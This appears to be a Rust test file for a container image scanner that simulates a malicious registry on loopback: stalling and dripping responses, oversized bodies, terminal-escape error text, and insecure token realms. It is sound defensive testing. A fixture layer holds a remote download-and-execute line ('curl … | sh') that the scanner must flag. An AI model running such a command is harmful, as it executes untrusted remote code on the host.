//! Issue 15 (defects 9, 10, 11, 18): a malicious registry on loopback,
//! written here, that stalls, drips, sends huge bodies, hostile error text
//! and token realms that must not receive credentials. Every case must end
//! in exit 2, quickly, with a message saying what happened.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::util::stowaway_within;

/// A fake registry: `answer(path, stream)` writes the whole response.
fn fake_registry(answer: impl Fn(&str, &str, &mut TcpStream) + Send + Sync + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let answer = Arc::new(answer);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut c) = conn else { continue };
            let answer = answer.clone();
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut b = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && head.len() < 64 << 10 {
                    if c.read(&mut b).unwrap_or(0) == 0 {
                        return;
                    }
                    head.push(b[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let path = head.split(' ').nth(1).unwrap_or("").to_string();
                answer(&path, &head, &mut c);
            });
        }
    });
    addr
}

fn run(args: &[&str], limit: Duration) -> (Option<i32>, String, Duration) {
    let start = Instant::now();
    let out = stowaway_within(args, limit);
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        start.elapsed(),
    )
}

fn ok_v2(path: &str, c: &mut TcpStream) -> bool {
    if path == "/v2/" {
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}");
        return true;
    }
    false
}

#[test]
fn a_dripping_manifest_hits_the_stall_timeout_and_the_deadline() {
    // One byte, then silence.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{");
        std::thread::sleep(Duration::from_secs(120));
    });
    let (code, err, took) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "2",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("stalled") && err.contains("--registry-stall-timeout"),
        "{err}"
    );
    assert!(took < Duration::from_secs(45), "{took:?}");
    // Headers that never come.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 ");
        std::thread::sleep(Duration::from_secs(120));
    });
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "1",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("no response headers"), "{err}");
    // One byte a second never stalls, but the deadline ends it.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n");
        for _ in 0..120 {
            if c.write_all(b" ").is_err() {
                return;
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    });
    let (code, err, took) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "5",
            "--registry-deadline",
            "4",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("deadline"), "{err}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

#[test]
fn bodies_are_capped_while_streaming_and_error_text_is_excerpted() {
    // A 1 GiB manifest is refused at --max-json-size, without reading it all.
    let sent = Arc::new(AtomicUsize::new(0));
    let counter = sent.clone();
    let addr = fake_registry(move |path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1073741824\r\n\r\n");
        let chunk = vec![b' '; 64 << 10];
        for _ in 0..(1 << 14) {
            if c.write_all(&chunk).is_err() {
                return;
            }
            counter.fetch_add(chunk.len(), Ordering::Relaxed);
        }
    });
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--max-json-size",
            "1M",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("--max-json-size"), "{err}");
    assert!(
        sent.load(Ordering::Relaxed) < 256 << 20,
        "read far past the limit"
    );
    // A huge error body with terminal escapes: a short, escaped excerpt.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let body = format!("\x1b[2J\x1b]0;pwned\x07{}", "A".repeat(4 << 20));
        let _ = write!(
            c,
            "HTTP/1.1 404 Not Found\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
    });
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(!err.contains('\x1b'), "raw escape printed");
    assert!(err.contains("\\x1b") && err.contains("404"), "{err}");
    assert!(err.len() < 2000, "{} bytes of stderr", err.len());
    // A 100 MiB token is refused at 64 KiB.
    let addr = fake_registry(|path, head, c| {
        if path == "/v2/" {
            let host = head
                .lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("host").then(|| v.trim())
                })
                .unwrap_or("")
                .to_string();
            let _ = write!(
                c,
                "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"http://{host}/token\",service=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 104857600\r\n\r\n{\"token\":\"");
        let chunk = vec![b'a'; 64 << 10];
        for _ in 0..1600 {
            if c.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("token") && err.contains("65536"), "{err}");
}

#[test]
fn credentials_go_to_a_token_realm_only_over_tls_or_loopback() {
    let seen_auth = Arc::new(AtomicUsize::new(0));
    // The realm is plain HTTP on a non-loopback host: --creds must not be sent.
    let realm_hits = seen_auth.clone();
    let addr = fake_registry(move |path, head, c| {
        if head.to_ascii_lowercase().contains("authorization: basic") {
            realm_hits.fetch_add(1, Ordering::Relaxed);
        }
        if path == "/v2/" {
            let _ = c.write_all(
                b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"http://token.example.invalid/token\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
    });
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--creds",
            "alice:s3cret",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("plain HTTP") && err.contains("only over TLS"),
        "{err}"
    );
    assert!(!err.contains("s3cret"), "{err}");
    assert_eq!(seen_auth.load(Ordering::Relaxed), 0);
    // Anonymous: the realm is tried, and a DNS failure says so.
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("DNS") || err.contains("resolved"), "{err}");
}

/// Serve `img` as `app:v1`; `blob` may replace how one blob is sent.
fn serve_image(
    img: stowaway::fixture::BuiltImage,
    drip: Option<stowaway::digest::Sha256>,
) -> String {
    fake_registry(move |path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let body: Option<Vec<u8>> = if path == "/v2/app/manifests/v1" {
            Some(img.manifest.clone())
        } else if let Some(d) = path.strip_prefix("/v2/app/blobs/") {
            if Some(d.to_string()) == drip.map(|d| d.to_string()) {
                let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n\x1f");
                std::thread::sleep(Duration::from_secs(120));
                return;
            }
            img.blobs()
                .into_iter()
                .find(|(bd, _)| bd.to_string() == d)
                .map(|(_, b)| b.to_vec())
        } else {
            None
        };
        match body {
            Some(b) => {
                let _ = write!(
                    c,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    b.len()
                );
                let _ = c.write_all(&b);
            }
            None => {
                let _ = c.write_all(
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        }
    })
}

#[test]
fn foreign_layers_the_registry_serves_are_scanned_and_a_stalled_blob_fails() {
    use stowaway::fixture::{ImageBuilder, LayerBuilder};
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .media_type("application/vnd.oci.image.layer.nondistributable.v1.tar+gzip")
                .file(
                    "usr/local/bin/update",
                    b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x | sh\n",
                    0o755,
                ),
        )
        .layer(LayerBuilder::new().file("app/x", b"x", 0o644))
        .build();
    let addr = serve_image(img.clone(), None);
    let s = stowaway::scan(&format!("{addr}/app:v1"), &Default::default()).unwrap();
    let paths: Vec<String> =
        s.fs.nodes
            .values()
            .map(|n| n.entry.path.display())
            .collect();
    assert!(
        paths.contains(&"/usr/local/bin/update".to_string()),
        "{paths:?}"
    );
    assert!(
        s.findings
            .iter()
            .any(|f| f.code == stowaway::Code::DownloadExecChain),
        "the foreign layer's script was inspected"
    );
    // A layer blob that stops arriving: exit 2 naming the stall.
    let addr = serve_image(img.clone(), Some(img.layers[1].digest));
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "2",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("stalled"), "{err}");
}

/// The `Host` header of a request head.
fn host_of(head: &str) -> String {
    head.lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("host").then(|| v.trim().to_string())
        })
        .unwrap_or_default()
}

fn respond(c: &mut TcpStream, status: &str, extra: &str, body: &[u8]) {
    let _ = write!(
        c,
        "HTTP/1.1 {status}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = c.write_all(body);
}

/// Bodies by request path.
type Docs = Vec<(String, Vec<u8>)>;

/// Serve documents and blobs by request path (`/v2/app/…`); 404 otherwise.
fn serve_docs(docs: Docs) -> String {
    fake_registry(move |path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        match docs.iter().find(|(p, _)| p == path) {
            Some((_, body)) => respond(c, "200 OK", "", body),
            None => respond(c, "404 Not Found", "", b""),
        }
    })
}

/// Insert `extra` (`"key":value,`) right after the opening brace.
fn with_key(doc: &[u8], extra: &str) -> Vec<u8> {
    assert_eq!(doc.first(), Some(&b'{'));
    [b"{", extra.as_bytes(), &doc[1..]].concat()
}

#[test]
fn registry_documents_with_colliding_keys_are_refused_naming_document_and_key() {
    use stowaway::digest::Sha256;
    use stowaway::fixture::{ImageBuilder, LayerBuilder};
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().file("app/x", b"x", 0o644))
        .build();
    let blob = |d: &Sha256, b: &[u8]| (format!("/v2/app/blobs/{d}"), b.to_vec());
    let layer = blob(&img.layers[0].digest, &img.layers[0].blob);
    let config = blob(&img.config_digest, &img.config);
    let tag = |b: &[u8]| ("/v2/app/manifests/v1".to_string(), b.to_vec());
    // A manifest whose config is `config_bytes`.
    let manifest_for = |config_bytes: &[u8]| {
        let mut m: serde_json::Value = serde_json::from_slice(&img.manifest).unwrap();
        m["config"]["digest"] = Sha256::of(config_bytes).to_string().into();
        m["config"]["size"] = config_bytes.len().into();
        serde_json::to_vec(&m).unwrap()
    };
    // An index naming the image's manifest, with `extra` keys in it.
    let index = |extra: &str| {
        format!(
            r#"{{{extra}"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"{}","size":{},"platform":{{"os":"linux","architecture":"amd64"}}}}]}}"#,
            img.manifest_digest,
            img.manifest.len()
        )
        .into_bytes()
    };
    let by_digest = (
        format!("/v2/app/manifests/{}", img.manifest_digest),
        img.manifest.clone(),
    );
    // The untouched image is read, so each refusal below is the key's doing.
    let addr = serve_docs(vec![tag(&img.manifest), config.clone(), layer.clone()]);
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(0), "{err}");
    let addr = serve_docs(vec![
        tag(&index("")),
        by_digest.clone(),
        config.clone(),
        layer.clone(),
    ]);
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(0), "{err}");

    let bad_config = with_key(&img.config, r#""RootFS":{"type":"layers","diff_ids":[]},"#);
    let dup_config = with_key(&img.config, r#""os":"windows","#);
    let cases: Vec<(&str, Docs, &str, &str)> = vec![
        (
            "manifest: layers then Layers",
            vec![
                tag(&with_key(&img.manifest, r#""Layers":[],"#)),
                config.clone(),
                layer.clone(),
            ],
            "image manifest",
            r#""Layers""#,
        ),
        (
            "manifest: layers twice",
            vec![
                tag(&with_key(&img.manifest, r#""layers":[],"#)),
                config.clone(),
                layer.clone(),
            ],
            "image manifest",
            r#"key "layers" appears twice"#,
        ),
        (
            "index: Manifests and manifests",
            vec![
                tag(&index(r#""Manifests":[],"#)),
                by_digest.clone(),
                config.clone(),
                layer.clone(),
            ],
            "image index",
            r#""Manifests""#,
        ),
        (
            "index: mediaType twice",
            vec![
                tag(&index(
                    r#""mediaType":"application/vnd.oci.image.manifest.v1+json","#,
                )),
                by_digest.clone(),
                config.clone(),
                layer.clone(),
            ],
            "image index",
            r#"key "mediaType" appears twice"#,
        ),
        (
            "config: RootFS and rootfs",
            vec![
                tag(&manifest_for(&bad_config)),
                blob(&Sha256::of(&bad_config), &bad_config),
                layer.clone(),
            ],
            "image config",
            r#""RootFS""#,
        ),
        (
            "config: os twice",
            vec![
                tag(&manifest_for(&dup_config)),
                blob(&Sha256::of(&dup_config), &dup_config),
                layer.clone(),
            ],
            "image config",
            r#"key "os" appears twice"#,
        ),
    ];
    for (case, docs, what, key) in cases {
        let addr = serve_docs(docs);
        let (code, err, _) = run(
            &["scan", &format!("{addr}/app:v1"), "--no-cache"],
            Duration::from_secs(60),
        );
        assert_eq!(code, Some(2), "{case}: {err}");
        assert!(err.contains(what) && err.contains(key), "{case}: {err}");
        assert!(err.contains(&addr), "{case}: names the registry: {err}");
    }
}

/// A registry that is its own token issuer, as Distribution with `auth:
/// token` is: tokens live `life` (and say so in `expires_in`); a request
/// with an expired token (or any request, when `refuse_all`) is answered
/// 401 with a Bearer challenge. Each blob answer takes `slow`, so a pull
/// outlives its first token. Returns the address, the tokens issued and
/// the 401s sent.
fn token_registry(
    img: stowaway::fixture::BuiltImage,
    life: Duration,
    slow: Duration,
    refuse_all: bool,
) -> (String, Arc<AtomicUsize>, Arc<AtomicUsize>) {
    let (issued, refused) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let (i, r) = (issued.clone(), refused.clone());
    let born = Instant::now();
    let addr = fake_registry(move |path, head, c| {
        let challenge = format!(
            "WWW-Authenticate: Bearer realm=\"http://{}/token\",service=\"fake\"\r\n",
            host_of(head)
        );
        if path.starts_with("/token") {
            let n = i.fetch_add(1, Ordering::SeqCst);
            let at = born.elapsed().as_millis();
            let body = format!(
                r#"{{"token":"tok-{n}-{at}","expires_in":{}}}"#,
                life.as_secs().max(1)
            );
            return respond(c, "200 OK", "", body.as_bytes());
        }
        // The age of the token sent, if any.
        let age = head
            .lines()
            .find_map(|l| l.split_once("Bearer tok-"))
            .and_then(|(_, t)| t.trim().rsplit_once('-'))
            .and_then(|(_, at)| at.parse::<u128>().ok())
            .map(|at| born.elapsed().as_millis().saturating_sub(at));
        let valid = age.is_some_and(|a| a < life.as_millis());
        if path == "/v2/" || !valid || refuse_all {
            if path != "/v2/" {
                r.fetch_add(1, Ordering::SeqCst);
            }
            return respond(c, "401 Unauthorized", &challenge, b"");
        }
        let body = if path == "/v2/app/manifests/v1" {
            Some(img.manifest.clone())
        } else if let Some(d) = path.strip_prefix("/v2/app/blobs/") {
            std::thread::sleep(slow);
            img.blobs()
                .into_iter()
                .find(|(bd, _)| bd.to_string() == d)
                .map(|(_, b)| b.to_vec())
        } else {
            None
        };
        match body {
            Some(b) => respond(c, "200 OK", "", &b),
            None => respond(c, "404 Not Found", "", b""),
        }
    });
    (addr, issued, refused)
}

#[test]
fn an_expired_bearer_token_is_renewed_once_per_request() {
    use stowaway::fixture::{ImageBuilder, LayerBuilder};
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().file("app/a", b"a", 0o644))
        .layer(LayerBuilder::new().file("app/b", b"b", 0o644))
        .build();
    // Tokens live one second; each blob takes 1.2 s to come, so every
    // request after the first blob carries an expired token.
    let (addr, issued, refused) = token_registry(
        img.clone(),
        Duration::from_secs(1),
        Duration::from_millis(1200),
        false,
    );
    let (code, err, _) = run(
        &["inventory", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(0), "{err}");
    let (issued, refused) = (
        issued.load(Ordering::SeqCst),
        refused.load(Ordering::SeqCst),
    );
    assert!(refused >= 1, "a token expired during the pull");
    assert_eq!(issued, refused + 1, "one new token per refusal");
    // A registry that refuses every token: one renewal, then exit 2.
    let (addr, issued, refused) =
        token_registry(img, Duration::from_secs(60), Duration::ZERO, true);
    let (code, err, took) = run(
        &["inventory", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("401") && err.contains("manifest"), "{err}");
    assert_eq!(
        issued.load(Ordering::SeqCst),
        2,
        "the first token and one renewal"
    );
    assert_eq!(
        refused.load(Ordering::SeqCst),
        2,
        "the request and its one retry"
    );
    assert!(took < Duration::from_secs(20), "{took:?}");
}
